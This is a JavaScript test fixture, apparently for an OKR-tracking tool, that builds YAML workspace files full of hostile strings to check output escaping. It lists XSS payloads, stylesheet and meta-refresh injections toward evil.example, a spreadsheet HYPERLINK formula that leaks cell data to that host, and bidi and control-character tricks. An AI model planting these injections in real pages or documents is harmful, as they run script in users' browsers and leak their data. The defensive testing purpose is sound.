// A workspace whose people try to be more than text: in titles, names, ids, notes and paths.
const RTL = '\u202e\u2067 sdrawkcab';
const LONG = 'x'.repeat(10_000);

export const HOSTILE_TITLES = [
  '<script>window.pwned = 1</script>',
  '"><img src=x onerror="window.pwned=2">',
  "'--></style></title></textarea><svg onload=window.pwned=3>",
  '</bdi></details><iframe srcdoc="<script>parent.pwned=4</script>"></iframe>',
  '<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '&lt;b&gt; &amp; &#60;script&#62; \u0000\u001b[31m',
  `${RTL} <b onclick=window.pwned=5>`,
  'javascript:window.pwned=6 [x](javascript:window.pwned=7)',
  '=HYPERLINK("https://evil.example/?"&A1;"Click")',
  '👩‍👩‍👧‍👦 🏴‍☠️ family \ud83d ends in half',
  LONG,
];

const quoted = (text) => JSON.stringify(text);

export const HOSTILE = {
  'okr.config.yaml': 'rollup: both\n',
  'company.okr.yaml': `level: company
team: ${quoted('<b>team</b>')}
cycle: 2026-Q4
objectives:
  - id: top
    title: ${quoted(HOSTILE_TITLES[0])}
    why: ${quoted(HOSTILE_TITLES[1])}
    owner: ${quoted('<i>owner</i>')}
    retrospective: ${quoted(HOSTILE_TITLES[3])}
    key_results:
${HOSTILE_TITLES.map(
  (title, index) => `      - id: kr-${index}
        title: ${quoted(`${title} from 0 to 10`)}
        baseline: 0
        target: 10
        check_ins:
          - { date: 2026-11-02, value: 1 }
          - { date: 2026-11-18, value: 5, note: ${quoted(title)}, by: ${quoted('"><s>')} }
`,
).join('')}`,
  [`${'a'.repeat(60)}'"<b>.okr.yaml`]: `level: team
team: ${quoted(LONG)}
cycle: 2026-Q4
objectives:
${HOSTILE_TITLES.map(
  (title, index) => `  - id: o${index}
    title: ${quoted(title)}
    parent: top/kr-${index}
    owner: ${quoted(`${LONG}${index}`)}
    key_results:
      - Reduce things from X to Y
`,
).join('')}`,
};
